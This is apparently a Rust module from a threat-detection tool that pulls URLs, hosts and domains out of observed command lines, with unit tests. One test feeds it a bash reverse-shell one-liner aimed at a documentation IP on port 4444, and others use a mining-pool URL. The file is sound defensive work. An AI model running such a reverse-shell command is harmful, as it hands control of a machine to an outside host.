//! Addresses to fetch from and hosts to talk to.

use std::net::Ipv4Addr;

use url::{Host, Url};
use vespid_model::ObservableKind;

use super::Seen;

/// An address with its scheme, or as some sensors tell it, without.
pub(super) fn address(text: &str, seen: &mut Seen) {
    let text = text.trim_end_matches(['.', ',']);
    let parsed = if text.contains("://") { Url::parse(text) } else { Url::parse(&format!("http://{text}")) };
    let Some((mut url, host)) = parsed.ok().and_then(|url| Some((url.clone(), own(&url)?))) else { return };
    url.set_fragment(None);
    seen.add(ObservableKind::Url, url.as_str());
    seen.add(ObservableKind::Host, &host);
}

/// An operand of a program that fetches, where the scheme may be left out: `192.0.2.7/x.sh`, `example.org/x.sh`.
/// A bare name could as well be a file's.
pub(super) fn operand(text: &str, seen: &mut Seen) {
    if text.contains("://") || text.starts_with(['/', '.', '-', '~']) {
        return;
    }
    let end = text.find(['/', ':']);
    let name = &text[..end.unwrap_or(text.len())];
    if name.parse::<Ipv4Addr>().is_ok() || (end.is_some() && is_domain(name)) {
        address(text, seen);
    }
}

/// An operand of a program that connects: `192.0.2.7`, `192.0.2.7:4444`, `user@example.org`. A name that could be a
/// file's is none.
pub(super) fn connected(text: &str, seen: &mut Seen) {
    let name = bare(text);
    match name.parse::<Ipv4Addr>() {
        Ok(ip) if !is_own(ip) => seen.add(ObservableKind::Host, name),
        Err(_) if is_domain(name) && !is_file(name) => {
            seen.add(ObservableKind::Host, &name.to_ascii_lowercase());
        }
        _ => {}
    }
}

/// An operand of a program that asks for a name.
pub(super) fn name(text: &str, seen: &mut Seen) {
    let name = bare(text);
    if name.parse::<Ipv4Addr>().is_err() && is_domain(name) {
        seen.add(ObservableKind::Domain, &name.to_ascii_lowercase());
    }
}

/// Without user and port.
fn bare(text: &str) -> &str {
    let text = text.rsplit_once('@').map_or(text, |(_, host)| host);
    text.split(':').next().unwrap_or_default()
}

/// Endings that files have more often than hosts do, though countries have them too.
fn is_file(name: &str) -> bool {
    const ENDINGS: [&str; 12] = ["sh", "py", "pl", "so", "gz", "tar", "zip", "txt", "cfg", "bin", "bz", "rb"];
    let ending = name.rsplit('.').next().unwrap_or_default();
    name.matches('.').count() == 1 && ENDINGS.iter().any(|it| ending.eq_ignore_ascii_case(it))
}

/// The shell's own sockets: `/dev/tcp/192.0.2.7/4444`.
pub(super) fn socket(text: &str, seen: &mut Seen) {
    for begin in ["/dev/tcp/", "/dev/udp/"] {
        for (at, _) in text.match_indices(begin) {
            connected(text[at + begin.len()..].split('/').next().unwrap_or_default(), seen);
        }
    }
}

/// The host of an address, unless it is the victim itself.
fn own(url: &Url) -> Option<String> {
    match url.host()? {
        Host::Domain(name) => {
            // Schemes other than the web's keep a host as it was typed.
            let name = name.to_ascii_lowercase();
            match name.parse::<Ipv4Addr>() {
                Ok(ip) => (!is_own(ip)).then_some(name),
                Err(_) => (is_domain(&name)).then_some(name),
            }
        }
        Host::Ipv4(ip) => (!is_own(ip)).then(|| ip.to_string()),
        Host::Ipv6(ip) => (!ip.is_loopback() && !ip.is_unspecified()).then(|| ip.to_string()),
    }
}

const fn is_own(ip: Ipv4Addr) -> bool {
    ip.is_loopback() || ip.is_unspecified() || ip.is_broadcast()
}

/// Two labels or more, the last one of letters (or an encoded one).
pub(super) fn is_domain(name: &str) -> bool {
    let labels: Vec<&str> = name.trim_end_matches('.').split('.').collect();
    let label = |label: &&str| {
        (1..=63).contains(&label.len())
            && label.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'-' || byte == b'_')
            && !label.starts_with('-')
    };
    let last = labels.last().is_some_and(|last| {
        last.len() >= 2 && (last.bytes().all(|byte| byte.is_ascii_alphabetic()) || last.starts_with("xn--"))
    });
    labels.len() >= 2 && name.len() <= 253 && last && labels.iter().all(label)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(look: fn(&str, &mut Seen), text: &str) -> Vec<String> {
        let mut seen = Seen::default();
        look(text, &mut seen);
        seen.into_vec().iter().map(|it| format!("{} {}", it.kind(), it.value())).collect()
    }

    #[test]
    fn a_host_has_one_form() {
        assert_eq!(found(address, "http://0x7f000001/x"), [""; 0], "the victim itself");
        assert_eq!(found(address, "http://0xC0000207/x"), ["url http://192.0.2.7/x", "host 192.0.2.7"]);
        assert_eq!(found(address, "tftp://192.0.2.7/x"), ["url tftp://192.0.2.7/x", "host 192.0.2.7"]);
        assert_eq!(
            found(address, "stratum+tcp://Pool.Example:3333"),
            ["url stratum+tcp://Pool.Example:3333", "host pool.example"]
        );
        assert_eq!(found(address, "http://localhost/x"), [""; 0]);
        assert_eq!(found(address, "http://$HOST/x"), [""; 0]);
    }

    #[test]
    fn an_operand_is_an_address_or_a_file() {
        assert_eq!(found(operand, "192.0.2.7/x.sh"), ["url http://192.0.2.7/x.sh", "host 192.0.2.7"]);
        assert_eq!(found(operand, "example.org/x"), ["url http://example.org/x", "host example.org"]);
        for file in ["x.sh", "./x.sh", "/tmp/x.sh", "-O", "1.2.3", "bin/x.sh"] {
            assert_eq!(found(operand, file), [""; 0], "{file}");
        }
    }

    #[test]
    fn peers_and_sockets() {
        assert_eq!(found(connected, "root@192.0.2.7:22"), ["host 192.0.2.7"]);
        assert_eq!(found(connected, "4444"), [""; 0]);
        assert_eq!(found(connected, "x.sh"), [""; 0]);
        assert_eq!(found(name, "Example.org"), ["domain example.org"]);
        assert_eq!(found(socket, "bash -i >& /dev/tcp/203.0.113.8/4444 0>&1"), ["host 203.0.113.8"]);
    }
}
